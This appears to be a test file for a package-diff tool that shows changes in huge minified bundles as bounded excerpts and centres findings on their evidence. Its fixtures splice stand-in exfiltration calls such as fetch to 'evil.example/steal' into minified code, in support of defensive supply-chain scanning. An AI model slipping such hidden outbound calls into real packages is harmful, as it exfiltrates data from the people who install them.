import { diffPackages } from '../../src/diff/files.js'
import { focusHunks } from '../../src/diff/focus.js'
import { LONG_LINE } from '../../src/diff/long-lines.js'
import type { Finding } from '../../src/schemas.js'

const enc = (s: string): Uint8Array => new TextEncoder().encode(s)
const files = (o: Record<string, string>): Map<string, Uint8Array> =>
  new Map(Object.entries(o).map(([k, v]) => [k, enc(v)]))

/** A minified bundle: one line of ~600 KB. */
const bundle = Array.from({ length: 30_000 }, (_, i) => `var a${i}=f(${i});`).join('') + '\n'

test('a one-line minified bundle edited in two places shows both places, not the line', () => {
  const edited = bundle
    .replace('var a1000=f(1000);', 'var a1000=f(1000);fetch("https://x.example/c");')
    .replace('var a20000=f(20000);', 'var a20000=g(20000);')
  const [d] = diffPackages(
    files({ 'dist/index.min.js': bundle }),
    files({ 'dist/index.min.js': edited }),
  )
  expect(d).toMatchObject({ additions: 1, deletions: 1, approximate: false })
  const [del, add] = d!.hunks[0]!.lines
  expect(del!.kind).toBe('del')
  expect(add!.kind).toBe('add')
  expect(add!.text.length).toBeLessThan(400)
  expect(add!.text).toContain('fetch("https://x.example/c")')
  expect(add!.text).toContain('var a20000=g(20000)')
  expect(del!.text).toContain('var a20000=f(20000)')
  expect(add!.text.startsWith('…')).toBe(true)
})

test('a source map is not diffed by tokens: one window from the first change to the last', () => {
  const edited = bundle
    .replace('var a1000=f(1000);', 'var a1000=f(1000);fetch("https://x.example/c");')
    .replace('var a20000=f(20000);', 'var a20000=g(20000);')
  const [d] = diffPackages(
    files({ 'dist/index.min.js.map': bundle }),
    files({ 'dist/index.min.js.map': edited }),
  )
  expect(d).toMatchObject({ additions: 1, deletions: 1 })
  const add = d!.hunks[0]!.lines.find((l) => l.kind === 'add')!
  expect(add.text.length).toBeLessThan(400)
  expect(add.text).toContain('fetch("https://x.example/c")')
  // One window: its two ends shown, the unchanged text between them elided.
  expect(add.text).toContain('var a20000=g(20000)')
  expect(add.text).not.toContain('var a10000=f(10000)')
  expect(add.text.split('…')).toHaveLength(4)
})

test('a rewritten minified line is shown cut down to a bounded excerpt', () => {
  const other = Array.from({ length: 30_000 }, (_, i) => `let q${i * 3}=h[${i}];`).join('') + '\n'
  const [d] = diffPackages(files({ 'm.js': bundle }), files({ 'm.js': other }))
  expect(d).toMatchObject({ additions: 1, deletions: 1 })
  for (const line of d!.hunks[0]!.lines) expect(line.text.length).toBeLessThan(4000)
})

// Its time, at n and 2n: npm run bench:hostile.
test('a huge file with no line in common is marked approximate', () => {
  const oldText = Array.from({ length: 300_000 }, (_, i) => `a${i}`).join('\n')
  const newText = Array.from({ length: 300_000 }, (_, i) => `b${i}`).join('\n')
  const [d] = diffPackages(files({ 'big.js': oldText }), files({ 'big.js': newText }))
  expect(d).toMatchObject({ additions: 300_000, deletions: 300_000, approximate: true })
})

test('a small change in a large file is found exactly, whatever the file size', () => {
  const oldLines = Array.from({ length: 200_000 }, (_, i) => `line ${i}`)
  const newLines = [...oldLines]
  newLines.splice(150_000, 1, 'line 150000 changed', 'inserted')
  const [d] = diffPackages(
    files({ 'big.js': oldLines.join('\n') }),
    files({ 'big.js': newLines.join('\n') }),
  )
  expect(d).toMatchObject({ additions: 2, deletions: 1, approximate: false })
  expect([...d!.addedLines]).toEqual([150_001, 150_002])
  expect(d!.hunks).toHaveLength(1)
  expect(d!.hunks[0]).toMatchObject({ oldStart: 149_998, newStart: 149_998 })
})

test('a finding in a long added line is shown as a window around its evidence', () => {
  const line = 'x'.repeat(5000) + 'fetch("https://evil.example/steal")' + 'y'.repeat(5000)
  const diffs = diffPackages(null, files({ 'min.js': line + '\n' }))
  const finding: Finding = {
    ruleId: 'r',
    category: 'network',
    severity: 'high',
    file: 'min.js',
    line: 1,
    message: 'm',
    evidence: 'fetch("https://evil.example/steal")',
  }
  const [hunk] = focusHunks(diffs, [finding])
  const text = hunk!.lines[0]!.text
  expect(text.length).toBeLessThanOrEqual(LONG_LINE + 2)
  expect(text).toContain('fetch("https://evil.example/steal")')
})
